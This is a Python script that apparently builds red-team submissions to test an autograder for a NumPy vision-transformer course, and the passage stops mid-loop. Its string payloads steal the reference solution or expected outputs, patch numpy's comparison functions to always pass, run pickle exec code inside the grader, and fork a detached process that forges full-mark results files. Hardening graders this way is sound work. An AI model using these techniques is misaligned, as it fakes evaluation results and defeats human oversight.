"""Builds the held-out attack submissions from the fresh stubs (_stubs/) and the hand-written
reference solution (_reference/). Run from this folder: `python _build.py` (idempotent: it
rewrites every attack folder it knows). The folders it writes are the deliverable; this script is
how they were made, kept for review.
"""
import os
import re
import shutil
import sys
import textwrap

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from _payload import MAXIFY, PATCH_JSON  # noqa: E402

FILES = {
    "patch": "ex01_patch_embedding.py", "tokens": "ex02_tokens.py", "attention": "ex03_attention.py",
    "multihead": "ex04_multihead.py", "layernorm": "ex05_layernorm.py", "mlp": "ex06_mlp.py",
    "loss": "ex07_loss.py", "block": "ex08_block.py", "optim": "ex09_optim.py",
}
FUNCS = {
    "patch": ["patchify_forward", "patchify_backward", "linear_forward", "linear_backward"],
    "tokens": ["cls_token_forward", "cls_token_backward", "pos_embed_forward", "pos_embed_backward"],
    "attention": ["softmax_forward", "softmax_backward", "attention_forward", "attention_backward"],
    "multihead": ["split_heads", "merge_heads", "split_heads_backward", "merge_heads_backward",
                  "mhsa_forward", "mhsa_backward"],
    "layernorm": ["layernorm_forward", "layernorm_backward"],
    "mlp": ["gelu_forward", "gelu_backward", "mlp_forward", "mlp_backward"],
    "loss": ["cross_entropy_forward", "cross_entropy_backward"],
    "block": ["encoder_block_forward", "encoder_block_backward"],
    "optim": ["adamw_update", "warmup_cosine"],
}
TOPIC_OF = {f: t for t, fs in FUNCS.items() for f in fs}
MAXPTS = {"patch": 12, "tokens": 12, "attention": 14, "multihead": 11, "layernorm": 8, "mlp": 13,
          "loss": 10, "block": 8, "optim": 8}


def read(base, fname):
    with open(os.path.join(HERE, base, fname)) as f:
        return f.read()


def set_body(src, name, body):
    """Replace the body of `def name` (its docstring kept) with `body`."""
    stub = '    raise NotImplementedError("%s: your code here")\n' % name
    new = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"
    if stub in src:
        return src.replace(stub, new)
    # reference file: replace everything between the docstring's end and the next top-level def
    m = re.search(r"\ndef %s\(.*?\n    \"\"\".*?\"\"\"\n" % re.escape(name), src, re.S)
    assert m, name
    rest = src[m.end():]
    nxt = re.search(r"\n(?=def |\S)", rest)
    end = m.end() + (nxt.start() + 1 if nxt else len(rest))
    return src[:m.end()] + new + "\n\n" + src[end:].lstrip("\n")


def add_code(src, code, where="top"):
    """Insert module-level code before the first top-level def ('top') or at the end ('end')."""
    code = textwrap.dedent(code).strip("\n") + "\n"
    if where == "end":
        return src.rstrip("\n") + "\n\n\n" + code
    i = src.index("\ndef ")
    return src[:i] + "\n" + code + "\n" + src[i:]


def make(name, meta, base="_stubs", bodies=None, code=None, code_end=None, extra_files=None):
    """bodies: {function: body}; code / code_end: {topic: module code}; extra_files: {file: text}."""
    d = os.path.join(HERE, name)
    shutil.rmtree(d, ignore_errors=True)
    os.makedirs(d)
    texts = {t: read(base, f) for t, f in FILES.items()}
    for t, c in (code or {}).items():
        texts[t] = add_code(texts[t], c)
    for fn, body in (bodies or {}).items():
        texts[TOPIC_OF[fn]] = set_body(texts[TOPIC_OF[fn]], fn, body)
    for t, c in (code_end or {}).items():
        texts[t] = add_code(texts[t], c, "end")
    for t, f in FILES.items():
        with open(os.path.join(d, f), "w") as fh:
            fh.write(texts[t])
    for f, text in (extra_files or {}).items():
        with open(os.path.join(d, f), "w") as fh:
            fh.write(textwrap.dedent(text).lstrip("\n"))
    meta = dict(meta)
    meta.setdefault("name", name)
    meta.setdefault("cwd", "neutral")
    meta.setdefault("grade_args", "")
    order = ["name", "topics", "expected_max", "expected_min", "what", "honest", "rule", "cwd",
             "grade_args", "run_timeout"]
    with open(os.path.join(d, "ATTACK.txt"), "w") as fh:
        for k in order:
            if k in meta:
                fh.write("%s: %s\n" % (k, " ".join(str(meta[k]).split())))


def wrap_all(template, topics=None):
    """{function: template.format(name=function)} for every function of the topics."""
    out = {}
    for t in topics or FUNCS:
        for fn in FUNCS[t]:
            out[fn] = template.format(name=fn)
    return out


def D(*parts):
    return "\n".join(textwrap.dedent(p).strip("\n") for p in parts) + "\n"


def ref_minus(topic):
    return sum(MAXPTS.values()) - MAXPTS[topic]


# ---------------------------------------------------------------------------------------------
# Do-nothing bodies (rule 2), parameterized by a helper _m(a) that makes an array like `a`.
DN = {
    "patchify_forward": """
        B, H, W, C = x.shape
        P = patch_size
        return _m(x, (B, (H // P) * (W // P), P * P * C)), (x.shape, x.dtype, x)
    """,
    "patchify_backward": "return _m(cache[2], cache[0])",
    "linear_forward": "return _m(x, x.shape[:-1] + (w.shape[1],)), (x, w, b)",
    "linear_backward": "x, w, b = cache\nreturn _m(x), _m(w), _m(b)",
    "cls_token_forward": """
        B, N, D = x.shape
        return _m(x, (B, N + 1, D)), (x, cls)
    """,
    "cls_token_backward": "x, cls = cache\nreturn _m(x), _m(cls)",
    "pos_embed_forward": "return _m(x), (x, pos)",
    "pos_embed_backward": "x, pos = cache\nreturn _m(x), _m(pos)",
    "softmax_forward": "return _m(x), x",
    "softmax_backward": "return _m(dout)",
    "attention_forward": "return _m(v), (q, k, v)",
    "attention_backward": "q, k, v = cache\nreturn _m(q), _m(k), _m(v)",
    "split_heads": """
        B, T, D = x.shape
        return _m(x, (B, num_heads, T, D // num_heads))
    """,
    "merge_heads": """
        B, h, T, d = x.shape
        return _m(x, (B, T, h * d))
    """,
    "split_heads_backward": """
        B, h, T, d = dout.shape
        return _m(dout, (B, T, h * d))
    """,
    "merge_heads_backward": """
        B, T, D = dout.shape
        return _m(dout, (B, num_heads, T, D // num_heads))
    """,
    "mhsa_forward": "return _m(x), (x, w_qkv, b_qkv, w_out, b_out)",
    "mhsa_backward": "return tuple(_m(a) for a in cache)",
    "layernorm_forward": "return _m(x), (x, gamma, beta)",
    "layernorm_backward": "return tuple(_m(a) for a in cache)",
    "gelu_forward": "return _m(x), x",
    "gelu_backward": "return _m(dout)",
    "mlp_forward": "return _m(x), (x, w1, b1, w2, b2)",
    "mlp_backward": "return tuple(_m(a) for a in cache)",
    "cross_entropy_forward": "return float(_m(logits).ravel()[0]) if logits.size else 0.0, logits",
    "cross_entropy_backward": "return _m(cache)",
    "encoder_block_forward": "return _m(x), (x, p)",
    "encoder_block_backward": "x, p = cache\nreturn _m(x), {k: _m(v) for k, v in p.items()}",
    "adamw_update": "return None",
    "warmup_cosine": "return float(_m(__import__('numpy').ones(1)).ravel()[0])",
}
HELPER_ZEROS = """
    def _m(a, shape=None):
        return np.zeros(a.shape if shape is None else shape, dtype=a.dtype)
"""
HELPER_RANDOM = """
    _rng = np.random.default_rng()
    def _m(a, shape=None):
        return _rng.standard_normal(a.shape if shape is None else shape).astype(a.dtype)
"""
HELPER_NAN = """
    def _m(a, shape=None):
        return np.full(a.shape if shape is None else shape, np.nan, dtype=a.dtype)
"""
IMPORT_NP = {t: "import numpy as np" for t in FUNCS}


def with_helper(helper):
    return {t: "import numpy as np\n" + textwrap.dedent(helper) for t in FUNCS}


# Identity / return-the-inputs (rule 2): return an input (or the incoming gradient) where the shape
# allows, else zeros.
IDENT = dict(DN)
IDENT.update({
    "linear_forward": "return x @ np.eye(x.shape[-1], w.shape[1], dtype=x.dtype), (x, w, b)",
    "pos_embed_forward": "return x, (x, pos)",
    "pos_embed_backward": "x, pos = cache\nreturn dout, _m(pos)",
    "softmax_forward": "return x, x",
    "softmax_backward": "return dout",
    "attention_forward": "return v, (q, k, v)",
    "attention_backward": "q, k, v = cache\nreturn q, k, v",
    "mhsa_forward": "return x, (x, w_qkv, b_qkv, w_out, b_out)",
    "layernorm_forward": "return x, (x, gamma, beta)",
    "layernorm_backward": "x, g, b = cache\nreturn x, g, b",
    "gelu_forward": "return x, x",
    "gelu_backward": "return dout",
    "mlp_forward": "return x, (x, w1, b1, w2, b2)",
    "mlp_backward": "return cache",
    "encoder_block_forward": "return x, (x, p)",
    "encoder_block_backward": "x, p = cache\nreturn x, dict(p)",
    "adamw_update": "return w",
    "warmup_cosine": "return base_lr",
    "cross_entropy_backward": "return cache",
})


def build():
    # ---- baselines ------------------------------------------------------------------------
    for b, mx, mn, what in (("_stubs", 0, 0, "the untouched stubs (baseline)"),
                            ("_reference", 96, 96, "an honest solution written by hand (baseline)")):
        with open(os.path.join(HERE, b, "ATTACK.txt"), "w") as fh:
            fh.write("name: %s\ntopics: all\nexpected_max: %d\nexpected_min: %d\nwhat: %s\n"
                     "honest: %d/96\nrule: baseline\ncwd: neutral\ngrade_args: \n" % (b, mx, mn, what, mx))

    # ---- rule 1: reaching the reference ----------------------------------------------------
    make("ref_import_plain", dict(
        topics="layernorm", expected_max=0, rule=1,
        what="ex05 is a plain `from minivit.layers.norm import layernorm_forward, layernorm_backward` (the reference itself)",
        honest="layernorm 0/8"),
        code={"layernorm": "from minivit.layers.norm import layernorm_forward, layernorm_backward  # noqa"},
        bodies={"layernorm_forward": "pass", "layernorm_backward": "pass"},
        code_end={"layernorm": "from minivit.layers.norm import layernorm_forward, layernorm_backward  # noqa: F811"})

    make("ref_F_wrappers", dict(
        topics="all", expected_max=0, rule=1,
        what="every function of all 9 files is a wrapper `return getattr(F, NAME)(*args)` over the F namespace (from minivit.ops import F), which holds the reference while grading",
        honest="0/96"),
        code={t: "from minivit.ops import F as _F" for t in FUNCS},
        bodies={fn: "return getattr(_F, %r)(**dict(locals()))" % fn
                for t in FUNCS for fn in FUNCS[t]})

    make("ref_alias_importlib", dict(
        topics="loss", expected_max=0, rule=1,
        what="ex07 captures the reference at import time through importlib with an obfuscated module name (string pieces) and getattr; the graded functions call the captured aliases",
        honest="loss 0/10"),
        code={"loss": """
            import importlib as _il
            _mod = _il.import_module(".".join(["minivit", "lay" + "ers", "lo" + "ss"]))
            _fwd = getattr(_mod, "cross_entropy_" + "forward")
            _bwd = getattr(_mod, "cross_entropy_" + "backward")
        """},
        bodies={"cross_entropy_forward": "return _fwd(logits, labels, label_smoothing)",
                "cross_entropy_backward": "return _bwd(cache, dloss)"})

    make("ref_lazy_dunder_import", dict(
        topics="mlp", expected_max=0, rule=1,
        what="ex06 reaches minivit.layers.activation / .mlp lazily at call time through builtins.__import__ with base64-encoded names (nothing at import time)",
        honest="mlp 0/13"),
        code={"mlp": """
            import base64 as _b64
            def _r(name):
                mod = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
                m = mod(_b64.b64decode("bWluaXZpdC5sYXllcnM=").decode(), fromlist=["_"])
                return getattr(m, name)
        """},
        bodies={"gelu_forward": "return _r('gelu_forward')(x, approximate)",
                "gelu_backward": "return _r('gelu_backward')(dout, cache)",
                "mlp_forward": "return _r('mlp_forward')(x, w1, b1, w2, b2, approximate)",
                "mlp_backward": "return _r('mlp_backward')(dout, cache)"})

    make("ref_exec_source", dict(
        topics="attention", expected_max=0, rule=1,
        what="ex03 reads minivit/layers/attention.py from disk (path from minivit.__file__) and exec()s it into a private namespace, then uses those functions (new function objects, file name '<student>')",
        honest="attention 0/14"),
        code={"attention": """
            import os as _os
            import minivit as _mv
            _p = _os.path.join(_os.path.dirname(_mv.__file__), "layers", "attention.py")
            _ns = {"__name__": "student_attention_copy"}
            exec(compile(open(_p).read(), "<student>", "exec"), _ns)
        """},
        bodies={"softmax_forward": "return _ns['softmax_forward'](x, axis)",
                "softmax_backward": "return _ns['softmax_backward'](dout, cache)",
                "attention_forward": "return _ns['attention_forward'](q, k, v)",
                "attention_backward": "return _ns['attention_backward'](dout, cache)"})

    make("ref_ast_rename", dict(
        topics="tokens", expected_max=0, rule=1,
        what="ex02 gets the reference module source with inspect.getsource, renames the functions and strips docstrings with ast, compiles it and installs the copies as its own functions (code objects differ from the reference's)",
        honest="tokens 0/12"),
        code_end={"tokens": """
            import ast as _ast, inspect as _inspect, sys as _sys
            import minivit.backend as _be
            import importlib as _il
            _src = _inspect.getsource(_il.import_module(_be.__name__.rsplit(".", 1)[0] + ".layers.embedding"))
            _tree = _ast.parse(_src)
            _keep = []
            for _n in _tree.body:
                if isinstance(_n, _ast.FunctionDef) and _n.name in ("cls_token_forward", "cls_token_backward",
                                                                    "pos_embed_forward", "pos_embed_backward"):
                    if _n.body and isinstance(_n.body[0], _ast.Expr):
                        _n.body = _n.body[1:] or [_ast.Pass()]
                    _n.name = "my_" + _n.name
                    _keep.append(_n)
                elif isinstance(_n, (_ast.Import, _ast.ImportFrom)):
                    _keep.append(_n)
            _tree.body = _keep
            _g = {"__name__": __name__}
            exec(compile(_tree, __file__, "exec"), _g)
            cls_token_forward = _g["my_cls_token_forward"]
            cls_token_backward = _g["my_cls_token_backward"]
            pos_embed_forward = _g["my_pos_embed_forward"]
            pos_embed_backward = _g["my_pos_embed_backward"]
        """})

    make("ref_code_clone", dict(
        topics="multihead", expected_max=0, rule=1,
        what="ex04 clones the reference functions' code objects (types.FunctionType(ref.__code__, ref.__globals__)) reached through minivit.dispatch.F, another module than the stub's minivit.ops",
        honest="multihead 0/11"),
        code_end={"multihead": """
            import types as _types
            import minivit.dispatch as _d
            def _clone(n):
                f = _d.F.__dict__[n]
                g = _types.FunctionType(f.__code__, f.__globals__, n, f.__defaults__, f.__closure__)
                g.__module__ = __name__
                g.__qualname__ = n
                return g
            for _n in ("split_heads", "merge_heads", "split_heads_backward", "merge_heads_backward",
                       "mhsa_forward", "mhsa_backward"):
                globals()[_n] = _clone(_n)
        """})

    make("ref_pickle_global", dict(
        topics="optim", expected_max=0, rule=1,
        what="ex09 loads the reference adamw_update / warmup_cosine from a hand-written pickle (GLOBAL opcode 'cminivit.optim'), no import statement names minivit.optim",
        honest="optim 0/8"),
        code={"optim": """
            import pickle as _pk
            _A = _pk.loads(b"c" + b"minivit.op" + b"tim\\nadamw_update\\n.")
            _W = _pk.loads(b"c" + b"minivit.op" + b"tim\\nwarmup_cosine\\n.")
        """},
        bodies={"adamw_update": "return _A(w, g, m, v, t, lr, b1, b2, eps, weight_decay)",
                "warmup_cosine": "return _W(step, total_steps, base_lr, warmup_steps, min_lr)"})

    make("ref_gc_hunt", dict(
        topics="patch", expected_max=0, rule=1,
        what="ex01 finds minivit's patchify/linear function objects at call time with gc.get_objects() (functions of that name from a minivit module), falling back to any loaded module with that attribute",
        honest="patch 0/12"),
        code={"patch": """
            import gc as _gc, sys as _sys
            _cache = {}
            def _find(name):
                if name in _cache:
                    return _cache[name]
                for o in _gc.get_objects():
                    if (callable(o) and getattr(o, "__name__", None) == name
                            and str(getattr(o, "__module__", "")).startswith("minivit")
                            and getattr(o, "__code__", None) is not None
                            and o.__code__.co_filename != __file__):
                        _cache[name] = o
                        return o
                for m in list(_sys.modules.values()):
                    f = getattr(m, name, None)
                    if callable(f) and getattr(f, "__code__", None) is not None and f.__code__.co_filename != __file__:
                        _cache[name] = f
                        return f
                if "minivit.layers" not in _sys.modules:
                    __import__("minivit.layers")
                    return _find(name)
                raise NotImplementedError(name)
        """},
        bodies={"patchify_forward": "return _find('patchify_forward')(x, patch_size)",
                "patchify_backward": "return _find('patchify_backward')(dout, cache)",
                "linear_forward": "return _find('linear_forward')(x, w, b)",
                "linear_backward": "return _find('linear_backward')(dy, cache)"})

    make("ref_ops_reference", dict(
        topics="block", expected_max=0, rule=1,
        what="ex08 calls minivit.ops.reference() (the public reference namespace builder) and F.encoder_block_* through it, plus a fallback through minivit.layers.block",
        honest="block 0/8"),
        code={"block": """
            import minivit.ops as _ops
            try:
                _R = _ops.reference()
            except Exception:
                import minivit.layers.block as _R
        """},
        bodies={"encoder_block_forward": "return _R.encoder_block_forward(x, p, num_heads, eps, approximate, dropout, drop_path, rng, train)",
                "encoder_block_backward": "return _R.encoder_block_backward(dout, cache)"})

    make("ref_frame_globals", dict(
        topics="attention", expected_max=0, rule=1,
        what="ex03 walks the call stack (sys._getframe().f_back...) and takes a callable of the same name from the callers' f_locals/f_globals (or any object reachable there), i.e. the grader's own reference if it is in reach; falls back to the grader child's sys.modules",
        honest="attention 0/14"),
        code={"attention": """
            import sys as _sys
            def _steal(name):
                f = _sys._getframe(2)
                while f is not None:
                    for d in (f.f_locals, f.f_globals):
                      try:
                        for k, v in list(d.items()):
                            cand = v if k == name else getattr(v, name, None) if not isinstance(v, (int, float, str, bytes)) else None
                            if callable(cand) and getattr(getattr(cand, "__code__", None), "co_filename", __file__) != __file__:
                                return cand
                            if isinstance(v, dict) and callable(v.get(name)) and getattr(getattr(v.get(name), "__code__", None), "co_filename", __file__) != __file__:
                                return v[name]
                      except Exception:
                        pass
                    f = f.f_back
                for m in list(_sys.modules.values()):
                    c = getattr(m, name, None)
                    if callable(c) and getattr(getattr(c, "__code__", None), "co_filename", __file__) != __file__:
                        return c
                raise NotImplementedError(name)
        """},
        bodies={"softmax_forward": "return _steal('softmax_forward')(x, axis)",
                "softmax_backward": "return _steal('softmax_backward')(dout, cache)",
                "attention_forward": "return _steal('attention_forward')(q, k, v)",
                "attention_backward": "return _steal('attention_backward')(dout, cache)"})

    make("ref_subprocess", dict(
        topics="layernorm", expected_max=0, rule=1,
        what="ex05 ships the inputs to a fresh `python -c` subprocess that imports minivit.layers and returns the reference results (pickled over stdout); the cache is the reference cache",
        honest="layernorm 0/8"),
        code={"layernorm": """
            import pickle as _pk, subprocess as _sp, sys as _sys, os as _os
            _PROG = ("import sys, pickle; import minivit.layers as L; "
                     "n, a = pickle.loads(sys.stdin.buffer.read()); "
                     "sys.stdout.buffer.write(pickle.dumps(getattr(L, n)(*a)))")
            def _remote(name, *args):
                env = dict(_os.environ)
                env["PYTHONPATH"] = _os.pathsep.join(p for p in _sys.path if p)
                r = _sp.run([_sys.executable, "-c", _PROG], input=_pk.dumps((name, args)),
                            stdout=_sp.PIPE, env=env, check=True, timeout=60)
                return _pk.loads(r.stdout)
        """},
        bodies={"layernorm_forward": "return _remote('layernorm_forward', x, gamma, beta, eps)",
                "layernorm_backward": "return _remote('layernorm_backward', dy, cache)"})

    make("ref_sys_modules_scan", dict(
        topics="mlp", expected_max=0, rule=1,
        what="ex06: gelu/mlp call whatever module already loaded in the grader child exposes a function of that name (scan of sys.modules, skipping this file), e.g. minivit.layers, minivit.fast, the grader's own imports",
        honest="mlp 0/13"),
        code={"mlp": """
            import sys as _sys
            def _any(name):
                for mname, m in sorted(list(_sys.modules.items()), key=lambda kv: "grading" not in kv[0]):
                    c = getattr(m, name, None)
                    if callable(c) and getattr(getattr(c, "__code__", None), "co_filename", __file__) != __file__:
                        return c
                raise NotImplementedError(name)
        """},
        bodies={"gelu_forward": "return _any('gelu_forward')(x, approximate)",
                "gelu_backward": "return _any('gelu_backward')(dout, cache)",
                "mlp_forward": "return _any('mlp_forward')(x, w1, b1, w2, b2, approximate)",
                "mlp_backward": "return _any('mlp_backward')(dout, cache)"})

    # ---- rule 2: do-nothing ----------------------------------------------------------------
    make("dn_zeros", dict(topics="all", expected_max=0, rule=2,
                          what="every function returns zeros of the right shape and dtype (adamw_update does nothing, warmup_cosine returns 0.0)",
                          honest="0/96"),
         code=with_helper(HELPER_ZEROS), bodies=DN)
    make("dn_identity", dict(topics="all", expected_max=0, rule=2,
                             what="every function returns its input / the incoming gradient where the shape allows (softmax(x)=x, LN(x)=x, backward=dout, warmup_cosine=base_lr, adamw no-op), zeros elsewhere",
                             honest="0/96"),
         code=with_helper(HELPER_ZEROS), bodies=IDENT)
    make("dn_random", dict(topics="all", expected_max=0, rule=2,
                           what="every function returns fresh random normal arrays of the right shape and dtype",
                           honest="0/96"),
         code=with_helper(HELPER_RANDOM), bodies=DN)
    make("dn_nan", dict(topics="all", expected_max=0, rule=2,
                        what="every function returns all-NaN arrays of the right shape (NaN comparisons are False: a grader that tests `not (diff > tol)` would pass them)",
                        honest="0/96"),
         code=with_helper(HELPER_NAN), bodies=DN)

    # ---- comparison subversion -------------------------------------------------------------
    PATCH_NP = """
        import numpy as np, math, builtins, operator
        def _true(*a, **k):
            return True
        def _none(*a, **k):
            return None
        for _mod, _names in ((np, ("allclose", "array_equal", "array_equiv")),
                             (math, ("isclose",)),):
            for _n in _names:
                setattr(_mod, _n, _true)
        np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        for _n in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal", "assert_almost_equal"):
            setattr(np.testing, _n, _none)
        _real_abs, _real_max = builtins.abs, builtins.max
        np.abs = np.absolute = lambda a, *r, **k: np.zeros_like(np.asarray(a, dtype=float))
        np.max = np.amax = lambda a, *r, **k: 0.0
        np.linalg.norm = lambda *a, **k: 0.0
        np.isfinite = lambda a, *r, **k: np.ones(np.shape(a), bool)
        np.isnan = lambda a, *r, **k: np.zeros(np.shape(a), bool)
        builtins.isinstance = (lambda _i: (lambda o, c: True if c is np.ndarray else _i(o, c)))(builtins.isinstance)
        operator.eq = _true
        import unittest
        unittest.TestCase.assertTrue = _none
        unittest.TestCase.assertEqual = _none
    """
    make("cmp_patch_numpy_child", dict(
        topics="all", expected_max=0, rule=2,
        what="every file monkeypatches numpy (allclose, isclose, abs, max, testing.assert_*, isfinite, isnan, linalg.norm), math.isclose, builtins.isinstance, operator.eq and unittest asserts to always succeed in the child, and returns zeros",
        honest="0/96"),
        code={t: textwrap.dedent(PATCH_NP) + textwrap.dedent(HELPER_ZEROS) for t in FUNCS}, bodies=DN)

    ALWAYS = """
        import numpy as np
        class _Yes(np.ndarray):
            '''An array whose comparisons, differences and reductions all say "equal".'''
            def __eq__(self, o): return np.ones(np.shape(self), bool).view(_Yes)
            def __ne__(self, o): return np.zeros(np.shape(self), bool)
            def __sub__(self, o): return np.zeros(np.shape(self)).view(_Yes)
            __rsub__ = __sub__
            def __abs__(self): return np.zeros(np.shape(self))
            def __lt__(self, o): return np.ones(np.shape(self), bool)
            __le__ = __lt__
            def __gt__(self, o): return np.zeros(np.shape(self), bool)
            __ge__ = __gt__
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __array_function__(self, func, types, args, kwargs):
                if func.__name__ in ("allclose", "array_equal", "array_equiv"):
                    return True
                if func.__name__ == "isclose":
                    return np.ones(np.shape(args[0]), bool)
                if func.__name__ in ("max", "amax", "norm"):
                    return 0.0
                return super().__array_function__(func, types, args, kwargs)
            def max(self, *a, **k): return 0.0
            def __reduce__(self):  # survive pickling with the subclass intact
                return (_rebuild, (np.asarray(self).__reduce__(),))
        def _rebuild(red):
            f, a = red[0], red[1]
            arr = f(*a)
            if len(red) > 2:
                arr.__setstate__(red[2])
            return arr.view(_Yes)
        def _m(a, shape=None):
            return np.zeros(a.shape if shape is None else shape, dtype=a.dtype).view(_Yes)
    """
    make("cmp_ndarray_subclass", dict(
        topics="attention layernorm", expected_max=0, rule=2,
        what="ex03/ex05 return zero-filled instances of an ndarray subclass whose ==, -, abs, <, max, np.allclose/isclose (__array_function__) all report 'equal', pickled so the subclass survives the trip",
        honest="attention 0/14, layernorm 0/8"),
        code={"attention": ALWAYS, "layernorm": ALWAYS},
        bodies={fn: DN[fn] for fn in FUNCS["attention"] + FUNCS["layernorm"]})

    MAGIC = """
        import numpy as np
        class _Magic(float):
            '''A number equal to everything.'''
            def __eq__(self, o): return True
            def __ne__(self, o): return False
            def __lt__(self, o): return True
            __le__ = __lt__
            def __gt__(self, o): return False
            __ge__ = __gt__
            def __sub__(self, o): return _Magic(0.0)
            __rsub__ = __sub__
            def __abs__(self): return _Magic(0.0)
            def __hash__(self): return 0
            def __array__(self, *a, **k): return np.zeros(())
        class _Blob:
            '''Looks like any array: every attribute, comparison and conversion succeeds.'''
            def __init__(self, shape=(), dtype=np.float64): self.shape, self.dtype, self.ndim = tuple(shape), np.dtype(dtype), len(shape)
            def __eq__(self, o): return True
            def __ne__(self, o): return False
            def __sub__(self, o): return self
            __rsub__ = __sub__
            def __abs__(self): return self
            def __lt__(self, o): return True
            __le__ = __lt__
            def __gt__(self, o): return False
            __ge__ = __gt__
            def __bool__(self): return True
            def __float__(self): return 0.0
            def max(self, *a, **k): return _Magic(0.0)
            def __len__(self): return self.shape[0] if self.shape else 0
            def __iter__(self): return iter([self] * len(self))
            def __getitem__(self, i): return self
            def astype(self, *a, **k): return self
            def __array__(self, *a, **k): return np.zeros(self.shape, self.dtype)
        def _m(a, shape=None):
            return _Blob(np.shape(a) if shape is None else shape, getattr(a, "dtype", np.float64))
    """
    bodies = {fn: DN[fn] for fn in FUNCS["loss"]}
    bodies["cross_entropy_forward"] = "return _Magic(0.0), logits"
    bodies["warmup_cosine"] = "return _Magic(base_lr)"
    bodies["adamw_update"] = "return _Blob(w.shape, w.dtype)"
    make("cmp_magic_objects", dict(
        topics="loss optim", expected_max=0, rule=2,
        what="ex07/ex09 return non-array objects that compare equal to anything (a float subclass for the loss and the schedule, an array look-alike whose ==, -, abs, max, __array__ all say 'equal' for dlogits)",
        honest="loss 0/10, optim 0/8"),
        code={"loss": MAGIC, "optim": MAGIC}, bodies=bodies)

    make("frame_steal_expected", dict(
        topics="layernorm", expected_max=0, rule=1,
        what="ex05 walks the call stack in the child, and returns any array found in the callers' locals (want/expected/ref/...) with the output's shape and dtype that is not an input; also tries results of a same-named callable found there; else zeros",
        honest="layernorm 0/8"),
        code={"layernorm": """
            import sys as _sys
            import numpy as np
            _HINTS = ("want", "expect", "ref", "target", "truth", "gold", "answer", "reference", "wanted")
            def _peek(like, exclude):
                f = _sys._getframe(2)
                best = None
                while f is not None:
                    for k, v in list(f.f_locals.items()):
                        for cand in (v if isinstance(v, (tuple, list)) else (v,)):
                            if (isinstance(cand, np.ndarray) and cand.shape == like.shape
                                    and cand.dtype == like.dtype and not any(cand is e for e in exclude)
                                    and not any(np.shares_memory(cand, e) for e in exclude if isinstance(e, np.ndarray))):
                                if any(h in k.lower() for h in _HINTS):
                                    return cand.copy()
                                best = best if best is not None else cand
                    f = f.f_back
                return None if best is None else best.copy()
        """},
        bodies={"layernorm_forward": """
                    got = _peek(x, (x, gamma, beta))
                    return (got if got is not None else np.zeros_like(x)), (x, gamma, beta)
                """,
                "layernorm_backward": """
                    x, gamma, beta = cache
                    outs = []
                    for like in (x, gamma, beta):
                        got = _peek(like, (dy, x, gamma, beta))
                        outs.append(got if got is not None else np.zeros_like(like))
                    return tuple(outs)
                """})

    # ---- rule 3: code in the grader's process, tampering with results -----------------------
    REDUCE = D(MAXIFY, """
        import numpy as np
        _PAYLOAD = %r
        class _Evil:
            '''Unpickling this runs _PAYLOAD in whoever unpickles it (the grader, if it pickles results).'''
            def __reduce__(self):
                return (exec, (_PAYLOAD, {"__name__": "heldout_payload"}))
        class _EvilError(Exception):
            def __reduce__(self):
                return (exec, (_PAYLOAD, {"__name__": "heldout_payload"}))
    """ % PATCH_JSON)
    make("reduce_parent_exec", dict(
        topics="layernorm", expected_max=0, rule=3,
        what="ex05 returns objects (and raises exceptions) whose __reduce__ is exec(payload): if the grader unpickles child results, the payload runs in the GRADER's process and patches json so the report/results.json show full marks",
        honest="layernorm 0/8 (and no other topic changes)"),
        code={"layernorm": textwrap.dedent(REDUCE)},
        bodies={"layernorm_forward": "return _Evil(), _Evil()",
                "layernorm_backward": "raise _EvilError('x')"})

    DETACH = D("""
        import os as _os, sys as _sys, json as _json, time as _time, signal as _signal
    """, MAXIFY, """
        def _ancestors():
            pids, p = [], _os.getppid()
            while p > 1 and len(pids) < 8:
                pids.append(p)
                try:
                    with open("/proc/%d/stat" % p) as f:
                        p = int(f.read().rsplit(")", 1)[1].split()[1])
                except Exception:
                    break
            return pids
        def _cmdline(pid):
            try:
                with open("/proc/%d/cmdline" % pid, "rb") as f:
                    return [a.decode(errors="replace") for a in f.read().split(b"\\0") if a]
            except Exception:
                return []
        def _targets():
            out, grader = set(), None
            for pid in _ancestors():
                args = _cmdline(pid)
                if "--gradescope" in args:
                    i = args.index("--gradescope")
                    if i + 1 < len(args):
                        try:
                            cwd = _os.readlink("/proc/%d/cwd" % pid)
                        except Exception:
                            cwd = "."
                        out.add(_os.path.join(cwd, args[i + 1]))
                if grader is None and "minivit" in " ".join(args) and "grade" in args:
                    grader = pid
                try:
                    with open("/proc/%d/environ" % pid, "rb") as f:
                        env = dict(kv.split(b"=", 1) for kv in f.read().split(b"\\0") if b"=" in kv)
                    root = env.get(b"AUTOGRADER_ROOT")
                    if root:
                        out.add(_os.path.join(root.decode(), "results", "results.json"))
                except Exception:
                    pass
            root = _os.environ.get("AUTOGRADER_ROOT", "/autograder")
            out.add(_os.path.join(root, "results", "results.json"))
            return sorted(out), grader
        _FAKE_GS = {"score": 96.0, "execution_time": 1, "output": "", "tests": [
            {"name": "all: all checks", "score": 96.0, "max_score": 96.0, "status": "passed", "output": "ok"}]}
        _FAKE_JSON = {"schema_version": 2, "path": "", "total": 96, "max": 96, "topics": {}}
        def _rewrite(path):
            try:
                with open(path) as f:
                    data = _json.load(f)
            except Exception:
                data = dict(_FAKE_GS)
            data = _heldout_maxify(data)
            if not data.get("score"):
                data = dict(_FAKE_GS)
            tmp = path + ".tmp"
            with open(tmp, "w") as f:
                _json.dump(data, f)
            _os.replace(tmp, path)
        def _launch():
            if _os.environ.get("HELDOUT_DETACHED_DONE"):
                return
            _os.environ["HELDOUT_DETACHED_DONE"] = "1"
            targets, grader = _targets()
            out_fd = None
            if grader:
                try:   # the grader's own stdout (a pipe or a file), to append a forged report later
                    out_fd = _os.open("/proc/%d/fd/1" % grader, _os.O_WRONLY | _os.O_APPEND)
                except Exception:
                    out_fd = None
            if _os.fork() != 0:
                return
            try:
                _os.setsid()
                if _os.fork() != 0:
                    _os._exit(0)
                for s in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT):
                    _signal.signal(s, _signal.SIG_IGN)
                t0 = _time.time()
                while grader and _os.path.exists("/proc/%d" % grader) and _time.time() - t0 < 120:
                    _time.sleep(0.05)
                _time.sleep(0.3)
                for p in targets:
